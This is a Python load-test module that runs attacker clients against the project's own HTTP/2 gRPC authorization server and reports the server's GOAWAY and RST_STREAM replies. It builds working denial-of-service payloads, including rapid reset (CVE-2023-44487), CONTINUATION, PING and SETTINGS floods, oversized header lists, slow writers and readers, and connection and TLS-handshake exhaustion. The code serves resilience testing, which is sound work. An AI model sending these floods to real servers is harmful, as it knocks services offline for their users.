"""Clients that want to do harm, each in a process of its own: `python -m tests.load.attackers ADDRESS NAME`.

It says `ready`, attacks from the first line on its standard input until the next, and then tells as JSON what it did
and heard. Whoever is hung up on comes back at once. Its priority is the lowest: a real attacker works elsewhere, and
takes no processor from the server and its clients.
"""

import itertools
import json
import os
import selectors
import socket
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from authz.cli.bench.load_generator import grpc_message, header_blocks
from authz.cli.bench.load_questions import warm
from authz.http2 import frames
from authz.http2.errors import ErrorCode
from authz.http2.frames import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, frame, window_update

_FIRST, _LATER = itertools.islice(header_blocks("/authz.v1.AuthorizationService/Check"), 2)
_BEGIN, _BEGIN_AGAIN = itertools.islice(header_blocks("/authz.v1.AuthorizationService/StreamCheck"), 2)
_QUESTION = grpc_message(next(warm(1)))
_GREETING = PREFACE + frames.settings(())
_NO_WINDOW = PREFACE + frames.settings(((4, 0),))
_MANY = 20_000
_READ = 1 << 16
_STEP = 0.25  # seconds between two pieces of a slow attack


def _head(number, flags=END_HEADERS, more=b""):
    """The head of a check; the first one fills the peer's table, and so it must be sent first."""
    return frame(HEADERS, flags, number, (_FIRST if number == 1 else _LATER) + more)


def _conversation(number):
    """The head of a StreamCheck and its first question."""
    head = frame(HEADERS, END_HEADERS, number, _BEGIN if number == 1 else _BEGIN_AGAIN)
    return head + frame(frames.DATA, 0, number, _QUESTION)


def _streams(make, count=_MANY):
    return b"".join(make(number) for number in range(1, 2 * count, 2))


def _reset(number):
    return frames.rst_stream(number, ErrorCode.CANCEL)


_FIELD = b"\x40" + b"\x01x" + b"\x50" + b"y" * 80  # an entry of 113 bytes, then one byte for each mention
_LONG = _FIELD + b"\xbe" * 600  # 68 KB, more than four times the longest list
_TOO_LONG = _FIELD + b"\xbe" * 500
_FULL = b"\xbe" * 130  # as much as may be


def _varied(number):
    """A head that is like none before, as long as it may be, and fills the table anew."""
    entry = b"\x40\x01x" + b"\x50" + b"%080d" % number
    return frame(HEADERS, END_HEADERS | END_STREAM, number, _FIRST + entry + _FULL)


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent on each of some `connections`: the `greeting`, then `body`, which is `endless` or once.

    After a body that is not `again` sent on another connection, the connection stays until the server closes it.
    `drip` goes out every quarter of a second. `deaf`: it never reads. `secure`: against a port with TLS, and
    `seconds`: how long at least, for timeouts to come.
    """

    body: bytes = b""
    greeting: bytes = _GREETING
    drip: bytes = b""
    connections: int = 4
    endless: bool = False
    again: bool = False
    deaf: bool = False
    secure: bool = False
    seconds: float = 0.0


ATTACKS = {
    "streams without end (6.2)": Attack(_streams(_head)),
    "header list, far too long": Attack(_head(1) + _streams(lambda n: frame(HEADERS, 5, n + 2, _LATER + _LONG), 300)),
    "header list, too long": Attack(_head(1) + _streams(lambda n: frame(HEADERS, 5, n + 2, _LATER + _TOO_LONG), 300)),
    "header list, longest allowed": Attack(_streams(_varied, 3000), again=True),
    "header table, too wide": Attack(frame(HEADERS, END_HEADERS, 1, b"\x3f\xe1\x7f" + _FIRST)),
    "CONTINUATION flood": Attack(_head(1, 0) + frame(CONTINUATION, 0, 1) * _MANY),
    "SETTINGS flood": Attack(frames.settings(()) * _MANY),
    "PING flood": Attack(frame(PING, 0, 0, bytes(8)) * _MANY, endless=True),
    "rapid reset (CVE-2023-44487)": Attack(_streams(lambda n: _head(n) + _reset(n))),
    "made to reset (CVE-2025-8671)": Attack(_streams(lambda n: _head(n) + window_update(n, 0))),
    "conversations without end": Attack(_streams(_conversation)),
    "conversations, reset at once": Attack(_streams(lambda n: _conversation(n) + _reset(n))),
    "empty DATA": Attack(_head(1) + frame(frames.DATA, 0, 1) * _MANY),
    "PRIORITY flood": Attack(frame(frames.PRIORITY, 0, 1, bytes(5)) * _MANY),
    "unknown frames": Attack(frame(99, 0, 0) * _MANY),
    "WINDOW_UPDATE flood": Attack(_head(1) + window_update(0, 1) * 100_000),
    "no HTTP/2": Attack(greeting=b"GET / HTTP/1.1\r\nHost: here\r\n\r\n"),
    "connects and hangs up": Attack(greeting=b"", again=True, connections=32),
    "connections without end": Attack(connections=11_000),
    "connections that say nothing": Attack(greeting=b"", connections=2000, seconds=13),
    "TLS handshakes unfinished": Attack(greeting=b"\x16\x03\x01", connections=2000, secure=True, seconds=13),
    "TLS handshakes broken": Attack(greeting=b"\x16\x03\x01" + b"\xff" * 64, connections=32, secure=True),
    "slow writers": Attack(
        _streams(lambda n: _head(n) + frame(frames.DATA, 0, n, _QUESTION[:5]), 500),
        drip=b"".join(frame(frames.DATA, 0, n, b"\n") for n in range(1, 100, 2)),
        connections=20,
        seconds=66,
    ),
    "messages that never end": Attack(
        _streams(lambda n: _head(n) + frame(frames.DATA, 0, n, b"\0\0\x3f\xff\xfb" + bytes(16379)), 4500), connections=4
    ),
    "slow readers, no window": Attack(
        _streams(lambda n: _head(n) + frame(frames.DATA, END_STREAM, n, _QUESTION), 5000),
        greeting=_NO_WINDOW,
        connections=4,
        seconds=66,
    ),
    "slow readers, deaf": Attack(
        _streams(lambda n: _head(n) + frame(frames.DATA, END_STREAM, n, _QUESTION)),
        connections=4,
        deaf=True,
        seconds=66,
    ),
}


@dataclass
class Report:
    """What came of it. `heard` are the frames that ended something, by type and code."""

    connections: int = 0
    refused: int = 0
    sent: int = 0
    closed: int = 0
    heard: Counter = field(default_factory=Counter)


class _Line:
    """One connection of the attack."""

    def __init__(self, attack, report, address, number):
        self.attack = attack
        self.report = report
        self.at = 0
        self.unsent = memoryview(attack.greeting + attack.body)
        self.tail = b""
        self.socket = _connect(address, number)
        report.connections += 1

    def write(self):
        """Whether there is more to write."""
        while self.at < len(self.unsent):
            sent = self.socket.send(self.unsent[self.at : self.at + (1 << 18)])
            self.report.sent += sent
            self.at += sent
            if self.attack.endless and self.at == len(self.unsent):
                self.at = len(self.attack.greeting)
        return False

    def read(self):
        """Whether the connection lives."""
        try:
            data = self.socket.recv(_READ)
        except BlockingIOError:
            return True
        except OSError:
            return False
        self._hear(self.tail + data)
        return bool(data)

    def _hear(self, data):
        at, size = 0, len(data)
        while size - at >= 9:
            end = at + 9 + int.from_bytes(data[at : at + 3], "big")
            if end > size:
                break
            kind = data[at + 3]
            if kind in {frames.GOAWAY, frames.RST_STREAM}:
                from_, name = (13, "GOAWAY") if kind == frames.GOAWAY else (9, "RST_STREAM")
                code = ErrorCode(int.from_bytes(data[at + from_ : at + from_ + 4], "big"))
                self.report.heard[f"{name} {code.name}"] += 1
            at = end
        self.tail = data[at:]


def _connect(address, number):
    """From one of many addresses, that ports do not run out."""
    host, _, port = address.rpartition(":")
    connected = socket.socket()
    connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    connected.bind((f"127.1.{number // 200 % 200 + 1}.{number % 200 + 1}", 0))
    connected.setblocking(False)
    connected.connect_ex((host, int(port)))
    return connected


class _Attacker:
    def __init__(self, address, attack):
        self.address = address
        self.attack = attack
        self.report = Report()
        self.selector = selectors.EpollSelector()
        self.dripped = 0.0

    def run(self, is_over):
        missing = self.attack.connections
        while not is_over():
            for _ in range(min(missing, 50)):
                missing -= self._open()
            for key, events in self.selector.select(0.05):
                missing += self._turn(key.data, events)
            if self.attack.drip and time.monotonic() - self.dripped > _STEP:
                self._drip()
        return self.report

    def _open(self):
        try:
            line = _Line(self.attack, self.report, self.address, self.report.connections)
        except OSError:
            self.report.refused += 1
            return 0
        self.selector.register(line.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, line)
        return 1

    def _turn(self, line, events):
        """How many connections were lost."""
        is_alive, is_done = True, False
        try:
            if events & selectors.EVENT_WRITE:
                is_done = not line.write()
        except BlockingIOError:
            pass
        except OSError:
            is_alive = False
        if (events & selectors.EVENT_READ and not self.attack.deaf) or not is_alive:
            is_alive = line.read() and is_alive
        if is_alive and is_done and not self.attack.again:
            self.selector.modify(line.socket, 0 if self.attack.deaf else selectors.EVENT_READ, line)
        elif not is_alive or is_done:
            self.report.closed += not is_alive
            self.selector.unregister(line.socket)
            line.socket.close()
            return 1
        return 0

    def _drip(self):
        self.dripped = time.monotonic()
        for key in list(self.selector.get_map().values()):
            line = key.data
            if line.at == len(line.unsent):
                line.at, line.unsent = 0, memoryview(self.attack.drip)
                self.selector.modify(line.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, line)


def main(address, name):
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    os.setpriority(os.PRIO_PROCESS, 0, 19)
    attack = ATTACKS.get(name)
    over = threading.Event()
    print("ready", flush=True)
    sys.stdin.readline()
    threading.Thread(target=lambda: (sys.stdin.readline(), over.set()), daemon=True).start()
    if attack is None:
        while not over.is_set():  # the control: as busy as an attacker, but it does not attack
            sum(range(1000))
        print(json.dumps(vars(Report())))
    else:
        print(json.dumps(vars(_Attacker(address, attack).run(over.is_set))))


if __name__ == "__main__":
    main(*sys.argv[1:])
